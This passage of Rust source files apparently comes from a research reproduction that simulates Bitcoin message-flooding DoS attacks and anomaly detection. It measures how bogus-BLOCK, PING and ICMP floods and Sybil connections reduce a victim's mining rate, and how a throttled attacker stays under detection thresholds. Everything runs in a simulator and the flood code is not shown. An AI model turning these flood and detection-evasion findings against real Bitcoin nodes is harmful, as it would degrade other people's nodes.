        assert!(t.contains(&"call"));
        assert!(!t.contains(&"HashMap"));
        assert!(!t.contains(&"Instant"));
    }

    #[test]
    fn string_content_kept_as_str_token() {
        let sf = lex("t.rs", "let s = \"version\";");
        assert!(sf
            .tokens
            .iter()
            .any(|t| t.kind == TokKind::Str && t.text == "version"));
    }

    #[test]
    fn raw_strings_and_byte_literals() {
        let sf = lex("t.rs", "let a = r#\"un\"wrap()\"#; let b = b\"panic!\"; let c = b'x';");
        assert!(!texts(&sf).contains(&"unwrap"));
        assert!(!texts(&sf).contains(&"panic"));
    }

    #[test]
    fn lifetimes_are_not_char_literals() {
        let sf = lex("t.rs", "fn f<'a>(x: &'a str) -> &'a str { x }");
        let lifetimes = sf
            .tokens
            .iter()
            .filter(|t| t.kind == TokKind::Lifetime)
            .count();
        assert_eq!(lifetimes, 3);
        // The following ident tokens survive.
        assert!(texts(&sf).contains(&"str"));
    }

    #[test]
    fn char_literal_with_quote_content() {
        let sf = lex("t.rs", "let q = '\\''; let n = 'x'; foo();");
        assert!(texts(&sf).contains(&"foo"));
        assert_eq!(
            sf.tokens.iter().filter(|t| t.kind == TokKind::Char).count(),
            2
        );
    }

    #[test]
    fn line_numbers_advance() {
        let sf = lex("t.rs", "a\nb\n\nc");
        let lines: Vec<u32> = sf.tokens.iter().map(|t| t.line).collect();
        assert_eq!(lines, vec![1, 2, 4]);
    }

    #[test]
    fn allow_markers_parsed() {
        let sf = lex(
            "t.rs",
            "let m = HashMap::new(); // lint:allow(unordered-map): membership only\n",
        );
        assert_eq!(sf.markers.len(), 1);
        assert_eq!(sf.markers[0].rule, "unordered-map");
        assert_eq!(sf.markers[0].reason, "membership only");
        assert!(sf.allowed("unordered-map", 1));
        // Marker on the line above also suppresses.
        assert!(sf.allowed("unordered-map", 2));
        assert!(!sf.allowed("unordered-map", 3));
        assert!(!sf.allowed("panic-path", 1));
    }

    #[test]
    fn doc_comments_do_not_carry_markers() {
        let sf = lex(
            "t.rs",
            "/// lint:allow(panic-path): documented syntax, not a marker\n\
             //! lint:allow(wallclock): module docs\nx();\n",
        );
        assert!(sf.markers.is_empty());
        assert!(sf.bad_marker_lines.is_empty());
    }

    #[test]
    fn marker_without_reason_is_bad() {
        let sf = lex("t.rs", "x(); // lint:allow(panic-path)\n");
        assert!(sf.markers.is_empty());
        assert_eq!(sf.bad_marker_lines, vec![1]);
    }

    #[test]
    fn cfg_test_ranges_detected() {
        let src = "fn prod() {}\n#[cfg(test)]\nmod tests {\n    fn t() { x.unwrap(); }\n}\nfn after() {}\n";
        let sf = lex("t.rs", src);
        assert_eq!(sf.test_ranges, vec![(2, 5)]);
        assert!(!sf.in_test(1));
        assert!(sf.in_test(4));
        assert!(!sf.in_test(6));
    }

    #[test]
    fn test_attr_fn_detected() {
        let src = "#[test]\nfn check() {\n    a.unwrap();\n}\nfn prod() {}\n";
        let sf = lex("t.rs", src);
        assert_eq!(sf.test_ranges, vec![(1, 4)]);
    }

    #[test]
    fn cfg_not_test_is_not_a_test_range() {
        let src = "#[cfg(not(test))]\nfn prod() { x(); }\n";
        let sf = lex("t.rs", src);
        assert!(sf.test_ranges.is_empty());
    }
}
