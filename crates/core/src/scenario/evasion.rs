//! The intelligent-attacker extension (§VII-A2, left as future work by the
//! paper): an evasive BM-DoS attacker throttles and mimics normal traffic
//! to stay under the detection thresholds — and the experiment quantifies
//! the paper's mitigation claim: *"attacker which controls its traffic and
//! reduces the traffic amount for the attack would have a smaller impact
//! on the victim"*.

use crate::contention::ContentionModel;
use crate::testbed::{addrs, Testbed, TestbedConfig};
use btc_attack::evasive::{EvasiveConfig, EvasiveFlooder};
use btc_detect::engine::{AnalysisEngine, Profile};
use btc_netsim::sim::HostConfig;
use btc_netsim::time::{as_secs_f64, Nanos, MINUTES};

/// One evasion operating point.
#[derive(Clone, Debug)]
pub struct EvasionPoint {
    /// Attacker's chosen rate (messages/minute).
    pub rate_per_min: f64,
    /// Measured messages actually sent.
    pub sent: u64,
    /// Whether the detector flagged the test window.
    pub detected: bool,
    /// Predicted victim mining rate (h/s).
    pub mining_rate: f64,
    /// Mining-rate loss relative to idle (fraction).
    pub damage: f64,
}

/// The evasion study result.
#[derive(Clone, Debug)]
pub struct EvasionResult {
    /// The trained profile the attacker is trying to evade.
    pub profile: Profile,
    /// One row per attacker rate.
    pub points: Vec<EvasionPoint>,
}

/// Scenario knobs.
#[derive(Clone, Copy, Debug)]
pub struct EvasionConfig {
    /// Training duration.
    pub train: Nanos,
    /// Window length.
    pub window: Nanos,
    /// Test duration per rate.
    pub test: Nanos,
    /// Fraction of each evasive message stream that is the damaging
    /// payload (bogus 200 kB blocks).
    pub attack_weight: f64,
}

impl Default for EvasionConfig {
    fn default() -> Self {
        EvasionConfig {
            train: 30 * MINUTES,
            window: 5 * MINUTES,
            test: 5 * MINUTES,
            attack_weight: 0.3,
        }
    }
}

/// Runs one evasion operating point: a fresh per-rate-seeded testbed with
/// an evasive flooder, judged against the (shared, immutable) trained
/// profile. The seed depends on the point's *index*, not the thread that
/// runs it, so fan-out cannot change the result.
pub fn run_point(
    index: usize,
    rate: f64,
    cfg: &EvasionConfig,
    engine: &AnalysisEngine,
    profile: &Profile,
    model: &ContentionModel,
) -> EvasionPoint {
    let settle = MINUTES;
    let mut tb = Testbed::build(TestbedConfig {
        seed: 100 + index as u64,
        ..TestbedConfig::default()
    });
    tb.sim.add_host(
        addrs::ATTACKER,
        Box::new(EvasiveFlooder::new(EvasiveConfig::stealthy(
            tb.target_addr,
            rate,
            cfg.attack_weight,
        ))),
        HostConfig::default(),
    );
    tb.sim.run_for(settle + cfg.test);
    let window = tb.single_window(settle, settle + cfg.test);
    let detection = engine.detect(profile, &window);
    let attacker: &EvasiveFlooder = tb.sim.app(addrs::ATTACKER).expect("evasive flooder");
    let secs = as_secs_f64(cfg.test);
    let load = model.app_layer_load(
        attacker.stats.messages_sent,
        attacker.stats.bytes_sent,
        secs,
    );
    let mining_rate = model.mining_rate(load);
    EvasionPoint {
        rate_per_min: rate,
        sent: attacker.stats.messages_sent,
        detected: detection.anomalous,
        mining_rate,
        damage: 1.0 - mining_rate / model.baseline_hash_rate,
    }
}

/// Runs the evasion sweep over attacker rates.
pub fn run_evasion(cfg: EvasionConfig, rates_per_min: &[f64]) -> EvasionResult {
    run_evasion_jobs(cfg, rates_per_min, 1)
}

/// [`run_evasion`] with the per-rate testbeds fanned across `jobs`
/// workers (training stays serial — every point needs the profile).
pub fn run_evasion_jobs(cfg: EvasionConfig, rates_per_min: &[f64], jobs: usize) -> EvasionResult {
    let engine = AnalysisEngine::default();
    let model = ContentionModel::default();
    // Train on clean traffic.
    let mut tb = Testbed::build(TestbedConfig {
        seed: 11,
        ..TestbedConfig::default()
    });
    tb.sim.run_for(cfg.train);
    let settle = MINUTES;
    let profile = engine
        .train(&tb.windows(settle, cfg.train, cfg.window))
        .expect("training windows");
    let indexed: Vec<(usize, f64)> = rates_per_min.iter().copied().enumerate().collect();
    let points = btc_par::par_map(jobs, indexed, |(i, rate)| {
        run_point(i, rate, &cfg, &engine, &profile, &model)
    });
    EvasionResult { profile, points }
}

/// Renders the evasion study as text.
pub fn render_evasion(r: &EvasionResult) -> String {
    use std::fmt::Write;
    let mut out = String::new();
    writeln!(
        out,
        "Detector headroom: τ_n = [{:.0}, {:.0}] msg/min",
        r.profile.tau_n.0, r.profile.tau_n.1
    )
    .unwrap();
    writeln!(
        out,
        "{:>12} {:>8} {:>10} {:>14} {:>10}",
        "atk msg/min", "sent", "detected", "mining (h/s)", "damage"
    )
    .unwrap();
    for p in &r.points {
        writeln!(
            out,
            "{:>12.0} {:>8} {:>10} {:>14.0} {:>9.1}%",
            p.rate_per_min,
            p.sent,
            p.detected,
            p.mining_rate,
            p.damage * 100.0
        )
        .unwrap();
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn evasion_tradeoff_matches_papers_argument() {
        let cfg = EvasionConfig {
            train: 12 * MINUTES,
            window: 3 * MINUTES,
            test: 2 * MINUTES,
            attack_weight: 0.3,
        };
        // A whisper (well inside τ_n headroom), a shout (rate violation).
        let r = run_evasion(cfg, &[30.0, 12_000.0]);
        assert_eq!(r.points.len(), 2);
        let quiet = &r.points[0];
        let loud = &r.points[1];
        // The quiet attacker evades detection but inflicts little damage.
        assert!(!quiet.detected, "quiet attacker was detected: {quiet:?}");
        assert!(quiet.damage < 0.25, "quiet damage {}", quiet.damage);
        // The loud attacker does real damage but is caught.
        assert!(loud.detected, "loud attacker evaded: {loud:?}");
        assert!(loud.damage > quiet.damage + 0.1);
    }

    #[test]
    fn render_contains_headroom_and_rows() {
        let cfg = EvasionConfig {
            train: 12 * MINUTES,
            window: 3 * MINUTES,
            test: 2 * MINUTES,
            attack_weight: 0.2,
        };
        let r = run_evasion(cfg, &[10.0]);
        let t = render_evasion(&r);
        assert!(t.contains("τ_n"));
        assert!(t.contains("damage"));
    }
}
