//! Figure 6: mining rate under bogus-`BLOCK` and `PING` BM-DoS with 0, 1,
//! 10 and 20 Sybil connections.
//!
//! The flood itself runs live in the simulator (socket caps, handshakes,
//! Sybil connections and bandwidth sharing all emerge there); the mining
//! rate is computed from the *measured* delivered traffic through the
//! calibrated [`ContentionModel`] (see that module's docs and
//! EXPERIMENTS.md).

use crate::contention::ContentionModel;
use crate::testbed::{addrs, Testbed, TestbedConfig};
use btc_attack::flood::{FloodConfig, Flooder};
use btc_attack::payload::FloodPayload;
use btc_netsim::sim::HostConfig;
use btc_netsim::time::{as_secs_f64, SECS};

/// Size of the bogus `BLOCK` junk payload (the paper does not state its
/// size; 200 kB sits inside protocol limits and the testbed's bandwidth).
pub const BOGUS_BLOCK_BYTES: usize = 200_000;

/// One point of Figure 6.
#[derive(Clone, Debug)]
pub struct Fig6Point {
    /// "none", "block" or "ping".
    pub attack: &'static str,
    /// Sybil connection count.
    pub connections: usize,
    /// Measured delivered flood messages per second.
    pub msgs_per_sec: f64,
    /// Measured flood megabits per second.
    pub mbits_per_sec: f64,
    /// Predicted victim mining rate (hashes/second).
    pub mining_rate: f64,
}

/// Configuration of a single Figure-6 point: one attack style, one Sybil
/// connection count. Plain data, so point lists can be fanned out across
/// worker threads.
#[derive(Clone, Copy, Debug)]
pub struct Fig6PointCfg {
    /// "none", "block" or "ping".
    pub attack: &'static str,
    /// Sybil connection count (0 = idle baseline).
    pub connections: usize,
    /// Virtual run length in seconds.
    pub duration_secs: u64,
}

/// The sweep's point list in presentation order: the idle baseline, then
/// {block, ping} × {1, 10, 20} connections.
pub fn point_list(duration_secs: u64) -> Vec<Fig6PointCfg> {
    let mut cfgs = vec![Fig6PointCfg {
        attack: "none",
        connections: 0,
        duration_secs,
    }];
    for attack in ["block", "ping"] {
        for connections in [1usize, 10, 20] {
            cfgs.push(Fig6PointCfg {
                attack,
                connections,
                duration_secs,
            });
        }
    }
    cfgs
}

/// Runs one Figure-6 point: builds a fresh deterministic testbed, floods
/// it, and reduces the measured traffic through the (shared, immutable)
/// calibrated contention model. Pure in the fan-out sense — no global
/// state, every simulator is constructed and consumed inside the call.
pub fn run_point(cfg: Fig6PointCfg, model: &ContentionModel) -> Fig6Point {
    let Fig6PointCfg {
        attack,
        connections,
        duration_secs,
    } = cfg;
    if connections == 0 {
        return Fig6Point {
            attack,
            connections,
            msgs_per_sec: 0.0,
            mbits_per_sec: 0.0,
            mining_rate: model.mining_rate(0.0),
        };
    }
    let payload = match attack {
        "block" => FloodPayload::BogusChecksumBlock {
            payload_bytes: BOGUS_BLOCK_BYTES,
        },
        "ping" => FloodPayload::Ping,
        other => panic!("unknown attack {other}"),
    };
    let mut tb = Testbed::build(TestbedConfig {
        feeders: 0, // the flood dwarfs background traffic
        ..TestbedConfig::default()
    });
    tb.sim.add_host(
        addrs::ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: tb.target_addr,
            payload,
            connections,
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    let duration = duration_secs * SECS;
    tb.sim.run_for(duration);
    let attacker: &Flooder = tb.sim.app(addrs::ATTACKER).expect("flooder");
    let secs = as_secs_f64(duration);
    let msgs = attacker.stats.messages_sent;
    let bytes = attacker.stats.bytes_sent;
    let load = model.app_layer_load(msgs, bytes, secs);
    Fig6Point {
        attack,
        connections,
        msgs_per_sec: msgs as f64 / secs,
        mbits_per_sec: bytes as f64 * 8.0 / secs / 1e6,
        mining_rate: model.mining_rate(load),
    }
}

/// Runs the full Figure-6 sweep serially.
pub fn run_fig6(duration_secs: u64) -> Vec<Fig6Point> {
    run_fig6_jobs(duration_secs, 1)
}

/// Runs the full Figure-6 sweep on `jobs` worker threads. Every point is
/// an independent, freshly-seeded simulator, so the result is identical
/// to [`run_fig6`] for any job count.
pub fn run_fig6_jobs(duration_secs: u64, jobs: usize) -> Vec<Fig6Point> {
    let model = ContentionModel::default();
    btc_par::par_map(jobs, point_list(duration_secs), |cfg| {
        run_point(cfg, &model)
    })
}

/// Renders Figure 6 as text.
pub fn render_fig6(points: &[Fig6Point]) -> String {
    use std::fmt::Write;
    let mut out = String::new();
    writeln!(
        out,
        "{:<8} {:>6} {:>12} {:>12} {:>16}",
        "Attack", "Conns", "msg/s", "Mbit/s", "Mining (h/s)"
    )
    .unwrap();
    for p in points {
        writeln!(
            out,
            "{:<8} {:>6} {:>12.0} {:>12.2} {:>16.0}",
            p.attack, p.connections, p.msgs_per_sec, p.mbits_per_sec, p.mining_rate
        )
        .unwrap();
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn get<'a>(points: &'a [Fig6Point], attack: &str, conns: usize) -> &'a Fig6Point {
        points
            .iter()
            .find(|p| p.attack == attack && p.connections == conns)
            .expect("point present")
    }

    #[test]
    fn fig6_shape_matches_paper() {
        let points = run_fig6(2);
        let baseline = get(&points, "none", 0).mining_rate;
        // Paper: idle ≈ 9.5e5 h/s.
        assert!((9.0e5..10.0e5).contains(&baseline), "baseline {baseline}");
        let b1 = get(&points, "block", 1).mining_rate;
        let b10 = get(&points, "block", 10).mining_rate;
        let b20 = get(&points, "block", 20).mining_rate;
        let p1 = get(&points, "ping", 1).mining_rate;
        let p10 = get(&points, "ping", 10).mining_rate;
        let p20 = get(&points, "ping", 20).mining_rate;
        // Monotone decline with Sybil count, saturating (the BLOCK flood is
        // bandwidth-capped beyond 1 connection, so 10 vs 20 sit on a
        // plateau — allow 2% jitter there).
        assert!(baseline > p1 && p1 > p10 && p10 >= p20 * 0.98, "{p1} {p10} {p20}");
        assert!(baseline > b1 && b1 >= b10 * 0.98 && b10 >= b20 * 0.98, "{b1} {b10} {b20}");
        // BLOCK hurts more than PING at every connection count.
        assert!(b1 < p1);
        assert!(b10 < p10);
        assert!(b20 < p20);
        // Paper operating points (±20%): block ≈ 3.5e5 / 2.8e5 / 2.6e5,
        // ping ≈ 5.5e5 / 4.6e5 / 3.5e5.
        assert!((2.8e5..4.2e5).contains(&b1), "block@1 {b1}");
        assert!((2.2e5..3.6e5).contains(&b10), "block@10 {b10}");
        assert!((2.1e5..3.5e5).contains(&b20), "block@20 {b20}");
        assert!((4.4e5..6.6e5).contains(&p1), "ping@1 {p1}");
        assert!((3.4e5..5.6e5).contains(&p10), "ping@10 {p10}");
        assert!((2.8e5..4.7e5).contains(&p20), "ping@20 {p20}");
    }

    #[test]
    fn render_has_all_rows() {
        let points = run_fig6(1);
        assert_eq!(points.len(), 7);
        let t = render_fig6(&points);
        assert!(t.contains("block"));
        assert!(t.contains("ping"));
        assert!(t.contains("none"));
    }
}
