//! Table III / Figure 7: application-layer `PING` BM-DoS vs network-layer
//! ICMP flooding — attacker cost, victim bandwidth and victim mining rate
//! across flooding rates.

use crate::contention::ContentionModel;
use crate::testbed::{addrs, Testbed, TestbedConfig};
use btc_attack::flood::{FloodConfig, Flooder, IcmpFlooder};
use btc_attack::payload::FloodPayload;
use btc_netsim::cpu::DEFAULT_CAPACITY_HZ;
use btc_netsim::sim::HostConfig;
use btc_netsim::time::{as_secs_f64, Nanos, SECS};

/// One row of Table III.
#[derive(Clone, Debug)]
pub struct Table3Row {
    /// "Bitcoin PING" or "ICMP ping".
    pub layer: &'static str,
    /// Requested flooding rate (num/sec).
    pub rate: f64,
    /// Measured achieved rate (num/sec).
    pub achieved_rate: f64,
    /// Attacker CPU utilisation (%).
    pub attacker_cpu_pct: f64,
    /// Attacker working-set estimate (MB).
    pub attacker_mem_mb: f64,
    /// Victim ingress bandwidth consumed (kbit/s).
    pub bandwidth_kbits: f64,
    /// Victim mining rate (hashes/sec).
    pub mining_rate: f64,
}

/// Working-set model of the attacker tooling: the application-layer
/// attacker keeps a Bitcoin session library, per-connection buffers and
/// message cache resident; the raw-socket flooder needs almost nothing
/// (the paper measures 14.34 MB vs 2.05 MB).
fn attacker_mem_mb(app_layer: bool) -> f64 {
    if app_layer {
        14.34
    } else {
        2.05
    }
}

/// Configuration of a single Table-III row: which layer floods, at what
/// requested rate. Plain data for the parallel fan-out.
#[derive(Clone, Copy, Debug)]
pub struct Table3PointCfg {
    /// `true` = application-layer Bitcoin `PING`, `false` = raw ICMP.
    pub app_layer: bool,
    /// Requested flooding rate (num/sec).
    pub rate: f64,
    /// Virtual run length in seconds.
    pub duration_secs: u64,
}

/// The sweep's row list in table order: Bitcoin PING at {10², 10³}, then
/// ICMP at {10², …, 10⁶}.
pub fn point_list(duration_secs: u64) -> Vec<Table3PointCfg> {
    let mut cfgs = Vec::new();
    for rate in [1e2, 1e3] {
        cfgs.push(Table3PointCfg {
            app_layer: true,
            rate,
            duration_secs,
        });
    }
    for rate in [1e2, 1e3, 1e4, 1e5, 1e6] {
        cfgs.push(Table3PointCfg {
            app_layer: false,
            rate,
            duration_secs,
        });
    }
    cfgs
}

/// Runs one Table-III row against a fresh deterministic testbed, reducing
/// through the shared immutable contention model.
pub fn run_point(cfg: Table3PointCfg, model: &ContentionModel) -> Table3Row {
    if cfg.app_layer {
        ping_row(cfg.rate, cfg.duration_secs, model)
    } else {
        icmp_row(cfg.rate, cfg.duration_secs, model)
    }
}

fn ping_row(rate: f64, duration_secs: u64, model: &ContentionModel) -> Table3Row {
    let mut tb = Testbed::build(TestbedConfig {
        feeders: 0,
        ..TestbedConfig::default()
    });
    // extra_interval stretches the 1000 msg/s socket floor down to `rate`.
    let extra: Nanos = if rate < 1000.0 {
        (SECS as f64 / rate) as Nanos - 1_000_000
    } else {
        0
    };
    tb.sim.add_host(
        addrs::ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: tb.target_addr,
            payload: FloodPayload::Ping,
            extra_interval: extra,
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    let duration = duration_secs * SECS;
    tb.sim.run_for(duration);
    let secs = as_secs_f64(duration);
    let attacker: &Flooder = tb.sim.app(addrs::ATTACKER).expect("flooder");
    let msgs = attacker.stats.messages_sent;
    let bytes = attacker.stats.bytes_sent;
    let attacker_busy = tb.sim.host_cpu(addrs::ATTACKER).cum_busy();
    let victim_rx = tb.sim.host_counters(tb.target).rx_bytes;
    Table3Row {
        layer: "Bitcoin PING",
        rate,
        achieved_rate: msgs as f64 / secs,
        attacker_cpu_pct: attacker_busy as f64 / secs / DEFAULT_CAPACITY_HZ as f64 * 100.0,
        attacker_mem_mb: attacker_mem_mb(true),
        bandwidth_kbits: victim_rx as f64 * 8.0 / secs / 1000.0,
        mining_rate: model.mining_rate(model.app_layer_load(msgs, bytes, secs)),
    }
}

fn icmp_row(rate: f64, duration_secs: u64, model: &ContentionModel) -> Table3Row {
    let mut tb = Testbed::build(TestbedConfig {
        feeders: 0,
        ..TestbedConfig::default()
    });
    tb.sim.add_host(
        addrs::ATTACKER,
        Box::new(IcmpFlooder::new(addrs::TARGET, rate)),
        HostConfig::default(),
    );
    let duration = duration_secs * SECS;
    tb.sim.run_for(duration);
    let secs = as_secs_f64(duration);
    let attacker: &IcmpFlooder = tb.sim.app(addrs::ATTACKER).expect("icmp flooder");
    let sent = attacker.stats.sent;
    let attacker_busy = tb.sim.host_cpu(addrs::ATTACKER).cum_busy();
    let victim_rx = tb.sim.host_counters(tb.target).rx_bytes;
    Table3Row {
        layer: "ICMP ping",
        rate,
        achieved_rate: sent as f64 / secs,
        attacker_cpu_pct: attacker_busy as f64 / secs / DEFAULT_CAPACITY_HZ as f64 * 100.0,
        attacker_mem_mb: attacker_mem_mb(false),
        bandwidth_kbits: victim_rx as f64 * 8.0 / secs / 1000.0,
        mining_rate: model.mining_rate(model.network_layer_load(sent, secs)),
    }
}

/// Runs the full Table III sweep (also the data behind Figure 7).
pub fn run_table3(duration_secs: u64) -> Vec<Table3Row> {
    run_table3_jobs(duration_secs, 1)
}

/// Runs the Table III sweep on `jobs` worker threads; row order and
/// contents are identical to [`run_table3`] for any job count.
pub fn run_table3_jobs(duration_secs: u64, jobs: usize) -> Vec<Table3Row> {
    let model = ContentionModel::default();
    btc_par::par_map(jobs, point_list(duration_secs), |cfg| {
        run_point(cfg, &model)
    })
}

/// Renders Table III as text.
pub fn render_table3(rows: &[Table3Row]) -> String {
    use std::fmt::Write;
    let mut out = String::new();
    writeln!(
        out,
        "{:<13} {:>9} {:>10} {:>8} {:>8} {:>14} {:>14}",
        "Layer", "Rate", "Achieved", "CPU %", "MEM MB", "BW kbit/s", "Mining h/s"
    )
    .unwrap();
    for r in rows {
        writeln!(
            out,
            "{:<13} {:>9.0} {:>10.0} {:>8.2} {:>8.2} {:>14.2} {:>14.0}",
            r.layer,
            r.rate,
            r.achieved_rate,
            r.attacker_cpu_pct,
            r.attacker_mem_mb,
            r.bandwidth_kbits,
            r.mining_rate
        )
        .unwrap();
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ping_row(rate: f64, duration_secs: u64) -> Table3Row {
        super::ping_row(rate, duration_secs, &ContentionModel::default())
    }

    fn icmp_row(rate: f64, duration_secs: u64) -> Table3Row {
        super::icmp_row(rate, duration_secs, &ContentionModel::default())
    }

    #[test]
    fn bm_dos_rate_capped_at_1e3() {
        // The paper: the application-layer flood cannot exceed ~10³ msg/s.
        let row = ping_row(1e6, 2);
        assert!(row.achieved_rate < 1_200.0, "rate {}", row.achieved_rate);
    }

    #[test]
    fn icmp_reaches_much_higher_rates() {
        let row = icmp_row(1e5, 2);
        assert!(row.achieved_rate > 80_000.0, "rate {}", row.achieved_rate);
    }

    #[test]
    fn same_rate_bm_dos_hurts_mining_more() {
        // Figure 7's core claim at 10² and 10³ pkt/s.
        for rate in [1e2, 1e3] {
            let ping = ping_row(rate, 2);
            let icmp = icmp_row(rate, 2);
            assert!(
                ping.mining_rate < icmp.mining_rate,
                "rate {rate}: ping {} icmp {}",
                ping.mining_rate,
                icmp.mining_rate
            );
        }
    }

    #[test]
    fn icmp_consumes_more_bandwidth_at_higher_rates() {
        let slow = icmp_row(1e3, 2);
        let fast = icmp_row(1e5, 2);
        assert!(fast.bandwidth_kbits > 10.0 * slow.bandwidth_kbits);
    }

    #[test]
    fn icmp_megaflood_degrades_mining() {
        let row = icmp_row(1e6, 2);
        // Paper: 3.59e5 h/s at 10⁶ pps.
        assert!((2.8e5..4.6e5).contains(&row.mining_rate), "{}", row.mining_rate);
    }

    #[test]
    fn attacker_memory_ordering() {
        let ping = ping_row(1e2, 1);
        let icmp = icmp_row(1e2, 1);
        assert!(ping.attacker_mem_mb > icmp.attacker_mem_mb);
    }

    #[test]
    fn render_contains_both_layers() {
        let rows = vec![ping_row(1e2, 1), icmp_row(1e2, 1)];
        let t = render_table3(&rows);
        assert!(t.contains("Bitcoin PING"));
        assert!(t.contains("ICMP ping"));
    }
}
