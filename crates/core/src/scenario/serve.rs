//! `repro serve` — the streaming detector as a service: replays the
//! recorded Figure-10 traffic event by event through the sharded per-peer
//! profile service ([`btc_detect::serve`]) and compares it against the
//! batch [`AnalysisEngine`] pipeline on the same trace.
//!
//! Two detectors run per case:
//!
//! * **per-peer** — a [`StreamingEngine`] trained on the clean run's
//!   per-peer windows scores every `(peer, window)` cell, at 1/2/4
//!   shards. The shard digests must be identical (the service's
//!   determinism contract) and the verdicts must agree with the batch
//!   pipeline on every cell.
//! * **node-aggregate** — the same trace with every event mapped to one
//!   pseudo-peer, scored with the Figure-10 node profile over the whole
//!   test span. Its single verdict must match what the batch engine says
//!   about the case's aggregate window — the streaming engine reproduces
//!   Figure 10 from the event stream.
//!
//! All digest/verdict output is deterministic; only the `[wall]` lines
//! (throughput, decision latency) vary run to run.

use crate::scenario::fig10::{run_case_testbed, run_training_testbed, Fig10Config, CASES, SETTLE};
use btc_detect::engine::{AnalysisEngine, Detection, Profile};
use btc_detect::features::TrafficWindow;
use btc_detect::serve::{
    bench_batch, bench_service, run_service, verdict_agreement, verdict_digest, PeerKey,
    ServeBench, ServeOutput, TraceEvent, TraceEventKind, TraceSpan,
};
use btc_detect::streaming::StreamingEngine;
use btc_netsim::packet::SockAddr;
use btc_netsim::time::{Nanos, MINUTES};
use btc_node::metrics::{Telemetry, TelemetryEventKind};
use std::collections::BTreeMap;

/// The shard counts every case is measured at.
pub const SHARDS: [usize; 3] = [1, 2, 4];

/// Scenario knobs.
#[derive(Clone, Debug)]
pub struct ServeConfig {
    /// The traffic generator — the same testbeds and durations as the
    /// Figure-10 study.
    pub fig10: Fig10Config,
    /// Per-peer streaming window length (the node-aggregate check always
    /// uses one window spanning the whole test).
    pub window: Nanos,
}

impl Default for ServeConfig {
    fn default() -> Self {
        ServeConfig {
            fig10: Fig10Config::default(),
            window: MINUTES,
        }
    }
}

/// Packs a socket address into the service's peer key: IPv4 in the high
/// 32 bits of the low 48, port in the low 16. Injective, so distinct
/// sockets never share streaming state.
pub fn peer_key(addr: SockAddr) -> PeerKey {
    (u64::from(u32::from_be_bytes(addr.ip)) << 16) | u64::from(addr.port)
}

/// Converts a node's recorded telemetry over `[start, end)` into the
/// service's trace format (time-ordered, peers packed with [`peer_key`]).
pub fn telemetry_trace(telemetry: &Telemetry, start: Nanos, end: Nanos) -> Vec<TraceEvent> {
    telemetry
        .events_in_window(start, end)
        .iter()
        .filter_map(|ev| {
            let kind = match ev.kind {
                TelemetryEventKind::Message(ty) => TraceEventKind::Message(ty),
                TelemetryEventKind::Reconnect => TraceEventKind::Reconnect,
                // Tier transitions are reputation-engine output, not
                // detector input traffic.
                TelemetryEventKind::TierChange { .. } => return None,
            };
            Some(TraceEvent {
                time: ev.time,
                peer: peer_key(ev.peer),
                kind,
            })
        })
        .collect()
}

/// Cuts a trace into per-peer training windows: every full window of the
/// span for every peer seen in the trace (silent windows included — a
/// normal peer can legitimately be quiet).
pub fn per_peer_windows(
    trace: &[TraceEvent],
    span: TraceSpan,
    window_len: Nanos,
) -> Vec<TrafficWindow> {
    let total = span.windows(window_len);
    let minutes = window_len as f64 / MINUTES as f64;
    let mut grouped: BTreeMap<PeerKey, Vec<TrafficWindow>> = BTreeMap::new();
    for ev in trace {
        if ev.time < span.start || ev.time >= span.start + total * window_len {
            continue;
        }
        let idx = ((ev.time - span.start) / window_len) as usize;
        let windows = grouped
            .entry(ev.peer)
            .or_insert_with(|| vec![TrafficWindow::empty(minutes); total as usize]);
        match ev.kind {
            TraceEventKind::Message(ty) => {
                if let Some(slot) = windows[idx].counts.get_mut(ty as usize) {
                    *slot += 1;
                }
            }
            TraceEventKind::Reconnect => windows[idx].reconnects += 1,
        }
    }
    grouped.into_values().flatten().collect()
}

/// One shard count's measurement of a case.
#[derive(Clone, Copy, Debug)]
pub struct ShardRun {
    /// Shard count.
    pub shards: usize,
    /// Wall-clock measurements (vary run to run).
    pub bench: ServeBench,
    /// Deterministic verdict digest (must equal every other shard
    /// count's).
    pub digest: u64,
}

/// One evaluated case.
#[derive(Clone, Debug)]
pub struct ServeCase {
    /// "normal", "bm-dos" or "defamation".
    pub name: &'static str,
    /// Trace events replayed.
    pub events: u64,
    /// Distinct peers in the trace.
    pub peers: u64,
    /// `(peer, window)` verdict cells scored.
    pub verdicts: u64,
    /// Cells flagged anomalous.
    pub anomalous: u64,
    /// Whether every shard count produced the same digest.
    pub digests_agree: bool,
    /// The per-shard runs, in [`SHARDS`] order.
    pub runs: Vec<ShardRun>,
    /// Wall-clock of the batch group-then-score pipeline on the same
    /// trace.
    pub batch: ServeBench,
    /// Digest of the batch pipeline's verdicts.
    pub batch_digest: u64,
    /// Streaming-vs-batch verdict agreement `(matching, total)`.
    pub agreement: (u64, u64),
    /// The node-aggregate streaming verdict (whole test span, one
    /// pseudo-peer, Figure-10 profile).
    pub aggregate_streaming: Detection,
    /// The batch engine's verdict on the case's aggregate window —
    /// exactly Figure 10's detection column.
    pub aggregate_batch: Detection,
}

/// The full `serve` result.
#[derive(Clone, Debug)]
pub struct ServeResult {
    /// Per-peer streaming window length.
    pub window: Nanos,
    /// The per-peer profile the service ran with.
    pub profile: Profile,
    /// The three cases.
    pub cases: Vec<ServeCase>,
}

/// Runs the streaming-service study serially.
pub fn run_serve(cfg: ServeConfig) -> ServeResult {
    run_serve_jobs(cfg, 1)
}

/// [`run_serve`] with the three cases fanned across `jobs` workers
/// (training stays serial — every case depends on both profiles).
///
/// # Panics
///
/// Panics if training produces no windows (`fig10.train` shorter than a
/// window) — a configuration error, not a runtime condition.
pub fn run_serve_jobs(cfg: ServeConfig, jobs: usize) -> ServeResult {
    let engine = AnalysisEngine::default();
    // ---- Train both profiles on the same clean run.
    let tb = run_training_testbed(&cfg.fig10);
    let node_profile = engine
        .train(&tb.windows(SETTLE, cfg.fig10.train, cfg.fig10.window))
        .expect("node training windows");
    let train_trace = telemetry_trace(&tb.target_node().telemetry, SETTLE, cfg.fig10.train);
    let train_span = TraceSpan {
        start: SETTLE,
        end: cfg.fig10.train,
    };
    let peer_profile = engine
